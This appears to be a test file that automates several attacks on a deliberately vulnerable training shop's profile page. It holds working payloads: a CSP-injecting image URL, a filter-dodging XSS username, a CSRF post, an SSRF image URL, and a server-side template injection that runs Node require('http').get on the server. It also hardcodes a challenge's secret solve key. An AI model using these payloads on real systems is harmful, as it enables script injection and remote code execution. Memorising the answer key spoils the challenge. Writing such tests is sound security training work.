import request from 'supertest'
import type { AttackTarget, Attacks } from '../../lib/attacks'
import { baseUrlOf, eventuallySolved, expectStatus, registerAndLogIn, shopConfig } from '../../testing/attack-steps'

/** What the juicy malware calls on the shop it runs against; reversing the binary reveals path and key. */
export const MALWARE_SOLVE_PATH = '/solve/challenges/server-side?key=tRy_H4rd3r_n0thIng_iS_Imp0ssibl3'

/** An image URL whose "host" carries a CSP directive that the page copies into its header. */
export const CSP_INJECTING_IMAGE_URL = "https://a.png; script-src 'unsafe-inline' 'self' 'unsafe-eval'"
/** Sanitises into a script tag: the filter removes `<a|a` and leaves `<script>`. */
export const FILTER_DODGING_USERNAME = '<<a|ascript>alert(`xss`)</script>'

/** The profile page's forms, posted as a browser does with the session cookie. */
const postForm = (target: AttackTarget, path: string, cookie: string, fields: Record<string, string>, headers: Record<string, string> = {}) =>
  request(target).post(path).set('Cookie', cookie).set(headers).type('form').send(fields)

/** A username template that makes the server request the malware's solve URL on its own origin. */
export function serverSideRequestTemplate(target: AttackTarget): string {
  const origin = typeof target === 'string' ? baseUrlOf(target) : 'http://127.0.0.1'
  const module = origin.startsWith('https:') ? 'https' : 'http'
  return `#{global.process.mainModule.require('${module}').get('${origin}${MALWARE_SOLVE_PATH}')}`
}

export const profileAttacks = {
  usernameXssChallenge: async (target) => {
    const { cookie } = await registerAndLogIn(target)
    expectStatus(await postForm(target, '/profile/image/url', cookie, { imageUrl: CSP_INJECTING_IMAGE_URL }), 302)
    expectStatus(await postForm(target, '/profile', cookie, { username: FILTER_DODGING_USERNAME }), 302)
    return expectStatus(await request(target).get('/profile').set('Cookie', cookie), 200)
  },
  // the victim's browser posts the form of a page on the configured foreign site, sending its own cookie along
  csrfChallenge: async (target) => {
    const { cookie } = await registerAndLogIn(target)
    const foreignOrigin = new URL((await shopConfig(target)).challenges.overwriteUrlForCsrfChallenge).origin
    return expectStatus(await postForm(target, '/profile', cookie, { username: 'CSRFed' }, { Origin: foreignOrigin }), 302)
  },
  // the server fetches whatever URL is given as the profile image, its own secret address included
  ssrfChallenge: async (target) => {
    const { cookie } = await registerAndLogIn(target)
    return expectStatus(await postForm(target, '/profile/image/url', cookie, { imageUrl: `${baseUrlOf(target)}${MALWARE_SOLVE_PATH}` }), 302)
  },
  // a username in #{...} is evaluated when the profile page renders; the request it makes runs in the background
  sstiChallenge: async (target) => {
    const { cookie } = await registerAndLogIn(target)
    expectStatus(await postForm(target, '/profile', cookie, { username: serverSideRequestTemplate(target) }), 302)
    const page = expectStatus(await request(target).get('/profile').set('Cookie', cookie), 200)
    if (!(await eventuallySolved(target, 'sstiChallenge'))) throw new Error('the server made no request to the solve URL within 5 s')
    return page
  },
} satisfies Attacks
